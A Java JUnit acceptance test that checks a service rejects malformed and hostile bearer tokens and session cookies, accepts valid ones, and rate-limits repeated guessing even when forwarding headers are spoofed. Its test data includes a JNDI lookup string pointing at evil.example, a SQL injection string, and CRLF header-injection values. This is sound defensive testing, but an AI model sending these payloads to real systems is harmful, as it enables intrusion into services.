package dev.offstage.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that is sent as a credential passes unless it is one, and none of it harms the host. */
@Order(6)
@ExtendWith(HostLog.class)
class HostileCredentialsTest {
    /** Unreadable, refused, too often refused, too large: each says no. */
    private static final List<Integer> REFUSALS = List.of(400, 401, 429, 431);

    private static final int GUESSES = 60;

    private static Stage stage;
    private static Api api;
    private static String token;
    private static String cookie;
    private static String other;

    @BeforeAll
    static void start() {
        Target.assumeLocal();
        stage = Stage.guarded(List.of());
        api = stage.api();
        Desk desk = Desk.at(stage);
        token = desk.adminToken();
        cookie = Session.cookie(Session.byJson(api, token));
        other = Session.cookie(Session.byJson(api, desk.token("reader")));
    }

    @AfterAll
    static void stop() {
        if (stage != null) {
            stage.close();
        }
    }

    /** Lines of a request's head. */
    record Lines(String text) {
        @Override
        public String toString() {
            return text.replace(token, "TOKEN")
                    .replace(cookie, "COOKIE")
                    .replaceAll("[^ -~]", "?")
                    .replaceAll("(.{80}).*", "$1…");
        }
    }

    static Stream<Lines> headers() {
        String base64 = Base64.getEncoder().encodeToString(token.getBytes(StandardCharsets.US_ASCII));
        return Stream.of(
                        "Bearer",
                        "Bearer ",
                        "Bearer\t",
                        "Bearer null",
                        "Bearer" + token,
                        "Bearer  " + token,
                        "Bearer\u000b" + token,
                        "Bearer " + token + " x",
                        "Bearer x " + token,
                        "Bearer " + token + "," + token,
                        "Bearer " + token + ", Bearer " + token,
                        "Bearer \"" + token + "\"",
                        "Bearer token=" + token,
                        "Bearer " + token.toUpperCase(Locale.ROOT),
                        "Bearer " + token.substring(0, token.length() - 1),
                        "Bearer " + token + "A",
                        "Bearer " + token + "=",
                        "Bearer " + token + "\u0000",
                        "Bearer \u0000" + token,
                        "Bearer " + token + "%00",
                        "Bearer " + token.replace("_", "%5F"),
                        "Bearer " + token.replace('o', '\u00f6'),
                        "Bearer \u00ef\u00bb\u00bf" + token,
                        "Bearer \u00f0\u009f\u0098\u0080",
                        "Bearer \u00ff\u00fe",
                        "Bearer " + base64,
                        "Basic " + base64,
                        "Token " + token,
                        "Bearer ' OR '1'='1",
                        "Bearer ${jndi:ldap://evil.example/x}",
                        "Bearer offstage_tokens_" + "A".repeat(43),
                        "Bearer offstage_" + Desk.id(token) + "_" + "A".repeat(43),
                        "Bearer offstage_" + Desk.id(token) + "_",
                        "Bearer " + "A".repeat(6_000),
                        "Bearer " + token + "A".repeat(6_000),
                        "Bearer " + "A".repeat(100_000),
                        "Bearer x\r\nAuthorization: Bearer " + token,
                        "Bearer " + token + "\r\nAuthorization: Bearer " + token,
                        "Bearer x\r\n Bearer " + token)
                .map(value -> new Lines("Authorization: " + value));
    }

    static Stream<Lines> cookies() {
        String[] parts = cookie.split("\\.", -1);
        String[] others = other.split("\\.", -1);
        long later = Long.parseLong(parts[2]) + 1;
        String good = Session.COOKIE + "=" + cookie;
        return Stream.of(
                        joined(parts[0], parts[1], parts[2], altered(parts[3])),
                        joined(parts[0], parts[1], String.valueOf(later), parts[3]),
                        joined(parts[0], parts[1], "0" + parts[2], parts[3]),
                        joined(parts[0], altered(parts[1]), parts[2], parts[3]),
                        joined(others[0], parts[1], parts[2], parts[3]),
                        joined(parts[0], others[1], parts[2], parts[3]),
                        joined(parts[0], parts[1], parts[2], others[3]),
                        joined(parts[0], parts[1], parts[2], ""),
                        joined(parts[0], parts[1], parts[2]),
                        joined(parts[0], parts[1], "-1", parts[3]),
                        joined(parts[0], parts[1], "9".repeat(40), parts[3]),
                        joined("", "", "", ""),
                        "...",
                        "",
                        "null",
                        token,
                        "\"" + cookie + "\"",
                        " " + cookie + "x",
                        cookie + "\u0000",
                        "\u0000" + cookie,
                        cookie + "%00",
                        cookie.replace(".", "%2E"),
                        cookie.replace('.', '\u00b7'),
                        "\u00ff\u00fe" + cookie,
                        cookie + "=",
                        cookie + ".x",
                        cookie + cookie,
                        "A".repeat(7_000),
                        cookie + "A".repeat(7_000),
                        "A".repeat(100_000),
                        cookie + "; " + Session.COOKIE + "=x",
                        "x; " + good,
                        other + "; " + good)
                .map(value -> new Lines("Cookie: " + Session.COOKIE + "=" + value));
    }

    private static String joined(String... parts) {
        return String.join(".", parts);
    }

    private static String altered(String text) {
        return (text.startsWith("A") ? "B" : "A") + text.substring(1);
    }

    @ParameterizedTest
    @MethodSource({"headers", "cookies"})
    void whatIsNoCredentialIsRefused(Lines lines) {
        Reply reply = ask(lines.text(), Elsewhere.next());

        assertThat(reply.status()).as(reply.toString()).isIn(REFUSALS);
        assertThat(reply.body()).doesNotContain(token, cookie);
        if (reply.status() == 401) {
            assertThat(reply.header("www-authenticate")).startsWith("Bearer realm=\"offstage\"");
        }
    }

    @Test
    void whatIsOnePasses() {
        for (String lines : List.of(
                "Authorization: Bearer " + token,
                "authorization: bearer " + token,
                "Cookie: " + Session.COOKIE + "=" + cookie,
                "Cookie: a=b; " + Session.COOKIE + "=" + cookie + "; c=d",
                "Cookie: a=b\r\nCookie: " + Session.COOKIE + "=" + cookie)) {
            Reply reply = ask(lines, InetAddress.getLoopbackAddress());
            assertThat(reply.status()).as(new Lines(lines) + ": " + reply).isEqualTo(200);
        }
    }

    private static Reply ask(String lines, InetAddress source) {
        String head = "GET /v1/tokens HTTP/1.1\r\nHost: " + api.address().getAuthority() + "\r\n" + lines
                + "\r\nConnection: close\r\n\r\n";
        return RawRequest.send(api.address(), head, source);
    }

    @Test
    void whoGuessesTooOftenMustWaitAndNobodyElse() {
        InetAddress place = Elsewhere.next();
        Api guesser = api.from(place);
        List<Integer> answers = IntStream.range(0, GUESSES)
                .mapToObj(guess -> guess(guesser, guess).status())
                .toList();
        assertThat(answers).startsWith(401).endsWith(429).isSorted();

        Reply limited = guess(guesser.with("X-Forwarded-For", "192.0.2.7").with("Forwarded", "for=192.0.2.7"), 0);
        Problems.check(limited, 429);
        assertThat(Integer.parseInt(limited.header("retry-after"))).isBetween(1, 60);
        Problems.check(Session.byJson(guesser, "offstage_wrong"), 429);
        assertThat(guesser.as(token).get("/v1/tokens").status()).isEqualTo(200);

        InetAddress another = Elsewhere.next();
        if (!another.equals(place)) {
            assertThat(guess(api.from(another), 0).status()).isEqualTo(401);
        }
    }

    private static Reply guess(Api guesser, int number) {
        return guesser.as("offstage_abcdefghijkm_" + "A".repeat(40) + (100 + number))
                .get("/v1/tokens");
    }
}
